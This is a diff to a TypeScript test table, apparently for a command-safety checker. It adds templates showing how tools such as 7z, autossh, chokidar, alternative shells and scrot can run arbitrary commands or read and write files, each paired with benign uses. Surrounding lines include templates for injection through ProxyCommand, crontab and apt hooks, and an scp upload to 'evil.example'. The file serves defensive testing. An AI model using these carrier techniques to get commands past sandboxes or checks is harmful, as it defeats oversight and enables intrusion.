@@ -54,6 +54,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
     writes: ["{P} {WRITE}"],
     benign: ["{P} -c dist/app.js", "{P} -t dist/app.js"],
   }),
+  same(["7z", "7za", "7zr", "7zz"], { reads: ["{P} a backup.7z {READ}"], writes: ["{P} a {WRITE} README.md", "{P} x release.7z -o{WRITE}"], benign: ["{P} a dist.7z dist", "{P} x release.7z -obuild", "{P} e -so release.7z"] }),
   same(["lz4"], { reads: ["{P} {READ} out.lz4"], writes: ["{P} dist.tar {WRITE}"], benign: ["{P} dist.tar dist.tar.lz4"] }),
 
   // ---- editors and pagers
@@ -133,6 +134,11 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["nodemon"], { runs: ["{P} --exec '{CMD}'"], benign: ["{P} --exec 'npm test' --watch src", "{P} server.js"] }),
   same(["concurrently"], { runs: ["{P} 'npm run watch' '{CMD}'"], benign: ["{P} -n api,web 'npm run api' 'npm run web'"] }),
   same(["latexmk"], { runs: ["{P} -pdf -pdflatex='{CMD}' main.tex", "{P} -e 'system(\"{CMD}\")' main.tex"], benign: ["{P} -pdf main.tex", "{P} -pdf -outdir=build main.tex"] }),
+  same(["mypy"], { writes: ["{P} --junit-xml {WRITE} src"], reads: ["{P} {READ}"], benign: ["{P} --strict src"] }),
+  same(["rustdoc"], { writes: ["{P} -o {WRITE} src/lib.rs"], benign: ["{P} -o target/doc src/lib.rs"] }),
+  same(["nasm", "as"], { writes: ["{P} -o {WRITE} boot.s"], reads: ["{P} {READ}"], benign: ["{P} -o build/boot.o boot.s"] }),
+  same(["reflex", "onchange"], { argv: ["{P} 'src/**' -- {ARGV}"], benign: ["{P} 'src/**' -- make test"] }),
+  same(["chokidar"], { runs: ["{P} 'src/**' -c '{CMD}'"], benign: ["{P} 'src/**' -c 'npm test'"] }),
   same(["tsc"], { writes: ["{P} --outFile {WRITE} src/index.ts"], benign: ["{P} -p tsconfig.json", "{P} --noEmit"] }),
   same(["autoconf"], { writes: ["{P} -o {WRITE} configure.ac"], launches: ["AUTOM4TE={PROG} {P}", "M4={PROG} {P}"], benign: ["{P} -o configure configure.ac"] }),
   same(["autom4te"], { writes: ["{P} -o {WRITE} configure.ac"], launches: ["M4={PROG} {P}"], benign: ["{P} -l autoconf -o configure configure.ac"] }),
@@ -179,6 +185,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
 
   // ---- network tools
   same(["ssh"], { runs: ["{P} -o ProxyCommand='{CMD}' host", "{P} -o 'LocalCommand {CMD}' -o PermitLocalCommand=yes host", "{P} host '{CMD}'"], reads: ["{P} -F {READ} host"], benign: ["{P} host uptime", "{P} -p 2222 deploy@host 'systemctl status app'"] }),
+  same(["autossh"], { runs: ["{P} -M 0 -o ProxyCommand='{CMD}' host", "{P} -M 0 host '{CMD}'"], benign: ["{P} -M 0 -N -L 5432:localhost:5432 db.example.com"] }),
   same(["scp"], { runs: ["{P} -o 'ProxyCommand={CMD}' notes.txt host:"], launches: ["{P} -S {PROG} notes.txt host:"], reads: ["{P} {READ} evil.example:"], benign: ["{P} build/app.tgz deploy@host:/srv/"] }),
   same(["sftp", "ftp", "ncftp", "psftp"], { runs: ["echo '!{CMD}' | {P} host"], reads: ["echo 'put {READ}' | {P} host"], writes: ["echo 'get notes.txt {WRITE}' | {P} host"], benign: ["echo 'ls' | {P} host", "{P} host"] }),
   same(["lftp"], { runs: ["{P} -c '!{CMD}'", "{P} -e '!{CMD}; exit' ftp.example.com"], writes: ["{P} -c 'open ftp.example.com; get notes.txt -o {WRITE}'"], reads: ["{P} -c 'open ftp.example.com; put {READ}'"], benign: ["{P} -c 'open ftp.example.com; ls'"] }),
@@ -221,6 +228,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   }),
 
   // ---- interpreters and language tools
+  same(["elvish", "posh", "sash", "rc", "es", "nu", "osh", "ysh", "xonsh"], { runs: ["{P} -c '{CMD}'", "echo '{CMD}' | {P}"], benign: ["{P} -c 'ls -la'"] }),
   same(["ghc", "ghci"], { runs: ["{P} -e 'System.Process.callCommand \"{CMD}\"'"], benign: ["{P} -e 'print (1 + 1)'"] }),
   same(["runghc", "runhaskell"], { runs: ["{P} <<< 'main = System.Process.callCommand \"{CMD}\"'"], benign: ["{P} Main.hs"] }),
   same(["octave", "octave-cli"], { runs: ["{P} --eval 'system(\"{CMD}\")'"], benign: ["{P} --eval 'disp(1+1)'"] }),
@@ -271,6 +279,9 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["xcrun"], { argv: ["{P} {ARGV}"], benign: ["{P} --sdk macosx clang -v", "{P} -f clang"] }),
   same(["ip"], { argv: ["{P} netns exec blue {ARGV}"], reads: ["{P} -batch {READ}"], benign: ["{P} addr show", "{P} netns list"] }),
   same(["dmsetup"], { launches: ["{P} ls --exec {PROG}"], benign: ["{P} ls"] }),
+  same(["codex"], { argv: ["{P} sandbox linux {ARGV}", "{P} sandbox macos {ARGV}"], benign: ["{P} sandbox linux make test"] }),
+  same(["genie"], { runs: ["{P} -c '{CMD}'"], benign: ["{P} -s"] }),
+  runner(["openvt"], "-- ", "make"),
   same(["pidstat"], { argv: ["{P} -e {ARGV}"], benign: ["{P} 1 5"] }),
   same(["xargs"], { argv: ["{P} -a /dev/null {ARGV}"], reads: ["{P} -a {READ} echo"], benign: ["git ls-files | {P} wc -l"] }),
   same(["env"], { runs: ["{P} -S '{CMD}'"], argv: ["{P} FOO=1 {ARGV}"], benign: ["{P} NODE_ENV=test npm test"] }),
@@ -287,7 +298,8 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["screen"], { argv: ["{P} -dmS job {ARGV}"], writes: ["{P} -L -Logfile {WRITE} ls"], benign: ["{P} -ls", "{P} -dmS build make"] }),
   same(["crontab"], { runs: ["echo '* * * * * {CMD}' | {P} -", "{P} - <<< '@reboot {CMD}'", "EDITOR='{CMD}' {P} -e"], benign: ["{P} -l"] }),
   same(["systemctl"], { runs: ["SYSTEMD_PAGER='{CMD}' {P} status app", "SYSTEMD_EDITOR='{CMD}' {P} edit app.service"], benign: ["{P} status app", "{P} --user restart app"] }),
-  same(["journalctl", "loginctl", "timedatectl", "hostnamectl", "resolvectl"], { runs: ["SYSTEMD_PAGER='{CMD}' {P} status", "PAGER='{CMD}' {P} status"], benign: ["{P} status"] }),
+  same(["scrot"], { runs: ["{P} -e '{CMD}'"], writes: ["{P} {WRITE}"], benign: ["{P} -d 2 build/shot.png"] }),
+  same(["journalctl", "loginctl", "timedatectl", "hostnamectl", "resolvectl", "systemd-resolve"], { runs: ["SYSTEMD_PAGER='{CMD}' {P} status", "PAGER='{CMD}' {P} status"], benign: ["{P} status"] }),
   same(["coredumpctl"], { runs: ["SYSTEMD_PAGER='{CMD}' {P} list"], writes: ["{P} dump -o {WRITE}"], launches: ["{P} debug --debugger={PROG}"], benign: ["{P} list"] }),
   same(["apt-get", "apt", "aptitude"], { runs: ["{P} update -o APT::Update::Pre-Invoke::='{CMD}'", "{P} -o 'DPkg::Post-Invoke::={CMD}' install -y jq"], reads: ["{P} -c {READ} update"], benign: ["{P} install -y jq", "{P} update"] }),
   same(["dpkg"], { runs: ["{P} --pre-invoke='{CMD}' -i pkg.deb"], benign: ["{P} -l"] }),
